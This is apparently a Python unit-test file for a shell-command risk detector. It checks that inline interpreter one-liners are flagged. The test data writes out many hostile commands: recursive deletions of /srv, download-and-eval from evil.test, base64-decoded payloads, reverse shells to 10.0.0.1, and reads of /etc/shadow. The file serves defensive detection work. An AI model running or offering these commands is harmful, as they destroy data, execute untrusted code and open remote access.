"""Code inside commands, one level down."""

from __future__ import annotations

import pytest

from riskproof.detect.shell import analyse
from tests.unit.detect.reading import DECODE, DOWNLOAD, RECURSIVE, REVERSE, categories


@pytest.mark.parametrize(
    "text",
    [
        'perl -e \'exec "rm","-rf","/srv"\'',
        "perl -E 'qx{rm -rf /srv}'",
        "perl -MFile::Path -e 'File::Path::rmtree(\"/srv\")'",
        "perl -MFile::Path=remove_tree -e 'remove_tree(\"/srv/data\")'",
        "perl -e 'open(F, \"|rm -rf /srv\"); close F'",
        'node -e \'import("child_process").then(c=>c.execSync("rm -rf /srv"))\'',
        'node --eval \'require("fs").rmSync("/srv",{recursive:true,force:true})\'',
        'node -p \'require("fs").rmdirSync("/srv", {recursive: true})\'',
        'node -e \'require("fs/promises").rm("/srv",{recursive:true})\'',
        'node -e \'require("rimraf").sync("/srv")\'',
        'node -e \'require("child_process").spawn("rm",["-rf","/srv"])\'',
        'node -e \'process.mainModule.require("child_process").exec("rm -rf /srv")\'',
        'bun -e \'Bun.spawn(["rm","-rf","/srv"])\'',
        "bun -e 'import {$} from \"bun\"; await $`rm -rf /srv`'",
        'deno eval \'new Deno.Command("rm",{args:["-rf","/srv"]}).outputSync()\'',
        "deno eval 'Deno.removeSync(\"/srv\",{recursive:true})'",
        'node - <<< \'require("child_process").execSync("rm -rf /srv")\'',
        "ruby -e 'system(\"rm -rf /srv\")'",
        "ruby -e '`rm -rf /srv`'",
        "ruby -e '%x(rm -rf /srv)'",
        'ruby -e \'require "fileutils"; FileUtils.rm_rf("/srv")\'',
        "ruby -rfileutils -e 'FileUtils.rm_r \"/srv\"'",
        "ruby -e 'IO.popen(\"rm -rf /srv\")'",
        'ruby -e \'require "open3"; Open3.capture2("rm -rf /srv")\'',
        "php -r 'system(\"rm -rf /srv\");'",
        "php -r 'shell_exec(\"rm -rf /srv\");'",
        "php -r '`rm -rf /srv`;'",
        "lua -e 'os.execute(\"rm -rf /srv\")'",
        "lua -e 'io.popen(\"rm -rf /srv\")'",
        "luajit -e 'os.execute(\"rm -rf /srv\")'",
        "perl -i -pe 'system(\"rm -rf /srv\")' x",
        "perl -0777 -ne 'exec(\"rm -rf /srv\")' x",
        "perl -e 'use File::Path qw(rmtree); rmtree(\"/srv\")'",
        'perl -e \'my $d="/srv"; system("rm -rf $d")\'',
        'perl -e \'system(join(" ", "rm", "-rf", "/srv"))\'',
        'perl -e \'open my $p, "-|", "rm", "-rf", "/srv"\'',
        "perl5.36 -e 'system(\"rm -rf /srv\")'",
        "node -e \"require('child_process').execFileSync('rm',['-rf','/srv'])\"",
        "node -e \"const {rmSync}=require('fs'); rmSync('/srv',{recursive:true})\"",
        "node -e \"const fs=require('fs').promises; fs.rm('/srv',{recursive:true,force:true})\"",
    ],
)
def test_what_inline_code_starts_or_deletes_is_judged_as_a_command(text: str) -> None:
    assert RECURSIVE in categories(text)


@pytest.mark.parametrize(
    "text",
    [
        "perl -e 'print \"rm -rf /\\n\"'",
        "perl -ne 'print if /rm -rf/' x.log",
        "perl -pe 's/foo/bar/' x",
        "perl -pi -e 's/system\\(\"x\"\\)/y/' x.c",
        "perl -MJSON::PP -e 'print encode_json({a=>1})'",
        "perl -e 'print join(\",\", map { $_*2 } 1..5)'",
        "perl -lane 'print $F[0]' x",
        "perl -e 'system(\"ls -l\")'",
        "perl -v",
        "perl -MCPAN -e 'install JSON'",
        "node -e 'console.log(\"rm -rf /\")'",
        "node -e 'const m=/rm -rf (.*)/.exec(\"rm -rf /srv\"); console.log(m)'",
        'node -p \'JSON.parse(require("fs").readFileSync("package.json","utf8")).version\'',
        "node -p 'process.versions'",
        'node -e \'require("child_process").execSync("ls -l", {stdio:"inherit"})\'',
        'node -e \'require("fs").rmSync("/tmp/build-x",{recursive:true,force:true})\'',
        'node -e \'require("fs").writeFileSync("a.json", JSON.stringify({cmd:"rm -rf /"}))\'',
        "node -e 'setTimeout(()=>console.log(1),10)'",
        "node --version",
        "node -e 'db.exec(\"delete from t where id=1\")'",
        'node --input-type=module -e \'import fs from "fs"; console.log(fs.readdirSync("."))\'',
        "deno eval 'console.log(1)'",
        "bun -e 'console.log(Bun.version)'",
        "ruby -e 'puts \"rm -rf /\"'",
        "ruby -e 'puts [1,2,3].map { |x| x * 2 }.sum'",
        "ruby -rjson -e 'puts JSON.parse(STDIN.read)[\"system\"]'",
        "ruby -ne 'puts $_ if /rm -rf/' x",
        "ruby -e 'system(\"ls\")'",
        "php -r 'echo \"rm -rf /\";'",
        'php -r \'echo json_encode(["exec" => "rm -rf /"]);\'',
        "php -r 'var_dump(json_decode(file_get_contents(\"x.json\")));'",
        "php -r 'echo base64_decode(\"aGVsbG8=\");'",
        "php -l x.php",
        "lua -e 'print(\"os.execute rm -rf /\")'",
    ],
)
def test_code_that_only_computes_or_mentions_passes(text: str) -> None:
    assert categories(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "node -e 'fetch(\"https://evil.test/x.js\").then(r=>r.text()).then(eval)'",
        "ruby -ropen-uri -e 'eval(URI.open(\"http://evil.test/x\").read)'",
        "perl -MLWP::Simple -e 'eval get(\"http://evil.test/x.pl\")'",
        "php -r 'eval(file_get_contents(\"http://evil.test/x.txt\"));'",
        "php -r 'include \"http://evil.test/x.php\";'",
    ],
)
def test_code_that_was_downloaded_is_run(text: str) -> None:
    assert DOWNLOAD in categories(text)


@pytest.mark.parametrize(
    "text",
    [
        'node -e \'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJybSAtcmYgL3NydiIp","base64").toString())\'',
        "php -r 'eval(base64_decode(\"c3lzdGVtKCJybSAtcmYgL3NydiIpOw==\"));'",
    ],
)
def test_code_that_was_decoded_is_run_and_read(text: str) -> None:
    assert {DECODE, RECURSIVE} <= set(categories(text))


@pytest.mark.parametrize(
    "text",
    [
        'perl -e \'use Socket; socket(S,PF_INET,SOCK_STREAM,0); open(STDIN,">&S"); exec("/bin/sh -i");\'',
        'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",42).to_i; exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'',
        'php -r \'$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'python3 -c \'import socket,subprocess as p; s=socket.socket(); s.connect(("10.0.0.1",1)); p.call(["/bin/sh","-i"])\'',
        'node -e \'const c=require("net").connect(1,"10.0.0.1"),s=require("child_process").spawn("/bin/sh",[]);\'',
    ],
)
def test_a_shell_beside_a_socket_is_a_reverse_shell(text: str) -> None:
    assert REVERSE in categories(text)


def test_files_that_code_names_are_files_of_the_command() -> None:
    assert analyse('node -e \'require("fs").readFileSync("/etc/shadow")\'').paths == (("/etc/shadow", False),)
    assert analyse('ruby -e \'File.write("x.txt", "y")\'').paths == (("x.txt", True),)
    assert analyse('perl -e \'open(F, "<", "/etc/passwd")\'').paths == (("/etc/passwd", False),)


def test_code_that_its_grammar_does_not_take_is_a_gap() -> None:
    assert analyse("perl -e 'rm -rf /'").parsed is False
    assert analyse("node -e 'require(1'").parsed is False
